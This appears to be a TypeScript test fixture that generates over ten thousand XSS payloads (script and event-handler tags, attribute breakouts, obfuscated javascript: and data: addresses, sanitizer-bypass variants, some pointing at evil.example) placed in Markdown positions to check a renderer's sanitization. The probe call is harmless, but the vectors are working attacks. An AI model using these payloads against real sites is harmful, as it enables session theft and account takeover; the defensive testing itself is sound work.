/** XSS vectors, each a function of the call that proves it ran. */
type Vector = (call: string) => string

/** As tags. Many are from OWASP's list of evasions and from what once passed through DOMPurify. */
const tags: readonly Vector[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<SCRIPT/x>${call}</SCRIPT >`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<img src=x onerror="${call}"//`,
  (call) => `<img src="x" onerror='${call}' `,
  (call) => `<img/src=x/onerror=${call}>`,
  (call) => `<img src=x:x onerror\u00a0=${call}>`,
  (call) => `<IMG """><SCRIPT>${call}</SCRIPT>">`,
  (call) => `<image src=x onerror=${call}>`,
  (call) => `<img srcset=x onerror=${call}>`,
  (call) => `<picture><source srcset=x><img onerror=${call} src=x></picture>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script href="data:text/javascript,${call}" />`,
  (call) => `<svg><style><img src=x onerror=${call}></style></svg>`,
  (call) => `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><a><animate attributeName=href values=javascript:${call} /><text>x</text></a></svg>`,
  (call) => `<svg><use href="data:image/svg+xml,<svg id='x' onload='${call}'/>#x" />`,
  (call) => `<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  (call) => `<math><mi//xlink:href="data:x,<script>${call}</script>">`,
  (call) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${call}></annotation-xml></math>`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<iframe onload=${call}></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<object data=x onerror=${call}>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<body onload=${call}>`,
  (call) => `<frameset onload=${call}>`,
  (call) => `<details open ontoggle=${call}>x</details>`,
  (call) => `<video><source onerror=${call} src=x></video>`,
  (call) => `<video src=x onerror=${call}></video>`,
  (call) => `<audio src=x onerror=${call}></audio>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<select autofocus onfocus=${call}></select>`,
  (call) => `<textarea autofocus onfocus=${call}></textarea>`,
  (call) => `<p tabindex=1 autofocus onfocus=${call}>x</p>`,
  (call) => `<marquee onstart=${call}>x</marquee>`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `<a href="&#106;avascript:${call}" target=_self>x</a>`,
  (call) => `<a onclick=${call} href=#>x</a>`,
  (call) => `<a href="#" onmouseover="${call}">x</a>`,
  (call) => `<form action="javascript:${call}"><button>x</button></form>`,
  (call) => `<button formaction="javascript:${call}" form=f>x</button><form id=f></form>`,
  (call) => `<isindex type=image src=x onerror=${call}>`,
  (call) => `<base href="javascript:${call}//"><a href="#">x</a>`,
  (call) => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  (call) => `<link rel=stylesheet href="https://evil.example/${call}.css">`,
  (call) => `<link rel=preload as=script href="https://evil.example/${call}.js">`,
  (call) => `<style>@import 'https://evil.example/${call}.css';</style>`,
  (call) => `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=${call}>x</p>`,
  (call) => `<p style="background:url(https://evil.example/${call})">x</p>`,
  (call) => `<div style="position:fixed;inset:0" onpointerover=${call}>x</div>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
  (call) => `<textarea><img title="</textarea><img src=x onerror=${call}>"></textarea>`,
  (call) => `<title><a title="</title><img src=x onerror=${call}>"></title>`,
  (call) => `<xmp><p title="</xmp><img src=x onerror=${call}>"></xmp>`,
  (call) => `<noembed><p title="</noembed><img src=x onerror=${call}>"></noembed>`,
  (call) => `<template><img src=x onerror=${call}></template>`,
  (call) => `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
  (call) => `<plaintext><img src=x onerror=${call}>`,
  (call) => `<!--><img src=x onerror=${call}>-->`,
  (call) => `<!-- --!><img src=x onerror=${call}> -->`,
  (call) => `<![CDATA[><img src=x onerror=${call}>]]>`,
  (call) => `<?xml version="1.0"?><img src=x onerror=${call}>`,
  (call) => `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${call}>">]>&y;`,
  (call) => `</script><script>${call}</script>`,
  (call) => `</p></div></body></html><script>${call}</script>`,
  (call) => `]]></code></pre><script>${call}</script>`,
  (call) => `<table><td background="javascript:${call}"><caption><img src=x onerror=${call}>`,
  (call) => `<a id=__pwned></a><a id=__pwned name=apply href="javascript:${call}">x</a>`,
  (call) => `\u003cimg src=x onerror=${call}\u003e<b\u0000 onmouseover=${call}>x</b>`,
  (call) => `＜script＞${call}＜/script＞<\u200bscript>${call}</script>`,
]

/** Escapes from an attribute, a string or a script block. */
const breakouts: readonly Vector[] = [
  (call) => `" onmouseover="${call}" x="`,
  (call) => `' onmouseover='${call}' x='`,
  (call) => `"><img src=x onerror=${call}>`,
  (call) => `'><img src=x onerror=${call}>`,
  (call) => `\`><img src=x onerror=${call}>`,
  (call) => `&quot;&gt;&lt;img src=x onerror=${call}&gt;`,
  (call) => `&#34;&#62;&#60;img src=x onerror=${call}&#62;`,
  (call) => `&#x22;onerror=${call} x=&#x22;`,
  (call) => `";${call};//`,
  (call) => `';${call};//`,
  (call) => `</title><script>${call}</script>`,
  (call) => `--><script>${call}</script><!--`,
  (call) => `\\"><script>${call}</script>`,
  (call) => `\${${call}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\u2028${call}\u2029`,
  (call) => `x\u202E"><svg onload=${call}>`,
  (call) => `"><foreignObject><img src=x onerror=${call}></foreignObject>`,
]

/** As addresses. */
const addresses: readonly Vector[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => ` javascript:${call}`,
  (call) => `\u0001javascript:${call}`,
  (call) => `\u00a0javascript:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `java\nscript:${call}`,
  (call) => `java\u0000script:${call}`,
  (call) => `java\u00adscript:${call}`,
  (call) => `java\u200bscript:${call}`,
  (call) => `&#106;avascript:${call}`,
  (call) => `&#x6A;avascript:${call}`,
  (call) => `&#0000106avascript:${call}`,
  (call) => `javascript&colon;${call}`,
  (call) => `javascript&#58;${call}`,
  (call) => `java&Tab;script:${call}`,
  (call) => `java&NewLine;script:${call}`,
  (call) => `%6aavascript:${call}`,
  (call) => `javascript%3A${call}`,
  (call) => `\\javascript:${call}`,
  (call) => `javascript\\:${call}`,
  (call) => `javascript://https://a.example/%0a${call}`,
  (call) => `javascript:https://a.example;${call}`,
  (call) => `https://a.example/javascript:${call}`,
  (call) => `#javascript:${call}`,
  (call) => `ｊavascript:${call}`,
  (call) => `vbscript:${call}`,
  (call) => `livescript:${call}`,
  (call) => `feed:javascript:${call}`,
  (call) => `view-source:javascript:${call}`,
  (call) => `jar:javascript:${call}!/`,
  (call) => `data:text/html,<script>opener.${call}</script>`,
  (call) => `data:text/html;base64,${Buffer.from(`<script>opener.${call}</script>`).toString('base64')}`,
  (call) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`,
  (call) => `blob:https://a.example/${call}`,
  (call) => `filesystem:https://a.example/${call}`,
  (call) => `intent://a.example/${call}#Intent;scheme=javascript;end`,
  (call) => `file:///${call}`,
  (call) => `//evil.example/${call}`,
  (call) => `/\\evil.example/${call}`,
  (call) => `\\\\evil.example\\${call}`,
  (call) => `http:javascript:${call}`,
  (call) => `https:evil.example/${call}`,
  (call) => `https://a.example/" onmouseover="${call}`,
  (call) => `https://a.example/"><img src=x onerror=${call}>`,
  (call) => `https://a.example/'onmouseover='${call}`,
  (call) => `https://a.example/&quot;onmouseover=&quot;${call}`,
  (call) => `https://a.example/%22onmouseover=%22${call}`,
  (call) => `https://user:javascript@a.example/${call}`,
  (call) => `https://exa mple/${call}`,
  (call) => `https://a.example\\@evil.example/${call}`,
  (call) => `mailto:a@b.example?body=<script>${call}</script>`,
  (call) => `mailto:"onmouseover="${call}`,
]

/** The positions in a Markdown text where a writer can put a string. */
type Carrier = (text: string) => string

const oneLine = (text: string): string => text.replaceAll('\n', ' ')

const textCarriers: Readonly<Record<string, Carrier>> = {
  paragraph: (text) => text,
  'paragraph after words': (text) => `Words before ${text} and after.`,
  'block of its own': (text) => `\n\n${text}\n\n`,
  heading: (text) => `# ${oneLine(text)}`,
  'underlined heading': (text) => `${oneLine(text)}\n===`,
  emphasis: (text) => `**${text}** _${text}_ ~~${text}~~`,
  'words of a link': (text) => `[${text}](https://a.example)`,
  'title of a link': (text) => `[x](https://a.example "${text}")`,
  'title in single quotes': (text) => `[x](https://a.example '${text}')`,
  'title of a definition': (text) => `[x][y]\n\n[y]: https://a.example (${oneLine(text)})`,
  'name of a definition': (text) => `[${text}]\n\n[${oneLine(text)}]: https://a.example`,
  'description of a picture': (text) => `![${text}](https://a.example/a.png)`,
  'description of a picture that is not shown': (text) => `![${text}](http://a.example/a.png)`,
  'title of a picture': (text) => `![x](https://a.example/a.png "${text}")`,
  'code in a line': (text) => `\`\` ${oneLine(text)} \`\``,
  'code without a language': (text) => `~~~\n${text}\n~~~`,
  'indented code': (text) => `    ${oneLine(text)}`,
  'code in HTML': (text) => `~~~html\n${text}\n~~~`,
  'code in JavaScript': (text) => `~~~js\nconst a = \`${text}\` // ${text}\n~~~`,
  'code in CSS': (text) => `~~~css\na { b: "${text}" } /* ${text} */\n~~~`,
  'code in PHP': (text) => `~~~php\n<?php echo "${text}"; ?> ${text}\n~~~`,
  'language of code': (text) => `~~~${oneLine(text)}\nx\n~~~`,
  'language of code, spelled together': (text) => `~~~${text.replace(/\s+/g, '/')}\nx\n~~~`,
  'item of a list': (text) => `- ${oneLine(text)}\n- x`,
  task: (text) => `- [x] ${oneLine(text)}`,
  quote: (text) => `> - ${oneLine(text)}\n> ${oneLine(text)}`,
  'cell of a table': (text) => `| ${oneLine(text)} | b |\n|---|:-:|\n| ${oneLine(text)} | d |`,
  note: (text) => `x[^1]\n\n[^1]: ${text}`,
  'name of a note': (text) => {
    const name = text.replace(/[\s[\]]+/g, '-')
    return `x[^${name}]\n\n[^${name}]: y`
  },
  'address in brackets': (text) => `<https://a.example/${text.replace(/[\s<>]+/g, '')}>`,
}

const addressCarriers: Readonly<Record<string, Carrier>> = {
  link: (address) => `[x](${address})`,
  'link in brackets': (address) => `[x](<${address}>)`,
  'link with a title': (address) => `[x](${address} "t")`,
  definition: (address) => `[x]\n\n[x]: ${address}`,
  'definition in brackets': (address) => `[x][y]\n\n[y]: <${oneLine(address)}>`,
  autolink: (address) => `<${address}>`,
  picture: (address) => `![x](${address})`,
  'picture in brackets': (address) => `![x](<${address}>)`,
  'picture by name': (address) => `![x][y]\n\n[y]: ${address}`,
  'picture in a link': (address) => `[![x](${address})](${address})`,
  'link in a table': (address) => `| [x](${oneLine(address)}) |\n|---|\n| ![x](${oneLine(address)}) |`,
  'link in a note': (address) => `x[^1]\n\n[^1]: [x](${address})`,
}

/**
 * XSS payloads in a fixed order: every vector, in every position that takes text, in every encoding. Every test that
 * shows writers' text runs them all through test/browser/xss-page.ts.
 */
export interface Payload {
  /** The argument of `__pwned` if it runs. */
  readonly id: number
  readonly name: string
  readonly text: string
}

const spellings: Readonly<Record<string, (text: string) => string>> = {
  plain: (text) => text,
  'as entities': (text) => text.replace(/[<>"'&:]/g, (character) => `&#${character.charCodeAt(0)};`),
  escaped: (text) => text.replace(/[<>"'`[\]!]/g, '\\$&'),
}

const call = (id: number): string => `__pwned(${id})`

function* numbered(makers: Iterable<readonly [name: string, make: Vector]>, first: number): Generator<Payload> {
  let id = first
  for (const [name, make] of makers) {
    yield { id, name, text: make(call(id)) }
    id += 1
  }
}

function* inCarriers(
  kind: string,
  vectors: readonly Vector[],
  carriers: Readonly<Record<string, (text: string) => string>>,
): Generator<readonly [string, Vector]> {
  for (const [place, carry] of Object.entries(carriers)) {
    for (const [spelling, spell] of Object.entries(spellings)) {
      for (const [index, vector] of vectors.entries()) {
        yield [`${kind} ${index} as ${place}, ${spelling}`, (run) => carry(spell(vector(run)))]
      }
    }
  }
}

/** Bodies in Markdown: more than ten thousand. */
export function* bodyPayloads(): Generator<Payload> {
  yield* numbered(
    [
      ...inCarriers('tag', tags, textCarriers),
      ...inCarriers('breakout', breakouts, textCarriers),
      ...inCarriers('address', addresses, addressCarriers),
    ],
    100_000,
  )
}

/** For names, headlines and other fields of one line: a few hundred. */
export function* linePayloads(): Generator<Payload> {
  const vectors = [...tags, ...breakouts]
  const spelled = Object.entries(spellings).flatMap(([spelling, spell]) =>
    vectors.map((vector, index): [string, Vector] => [`line ${index}, ${spelling}`, (run) => spell(vector(run))]),
  )
  yield* numbered(spelled, 200_000)
}

/** For fields that take an address. */
export function* addressPayloads(): Generator<Payload> {
  yield* numbered(
    addresses.map((vector, index): [string, Vector] => [`address ${index}`, vector]),
    300_000,
  )
}
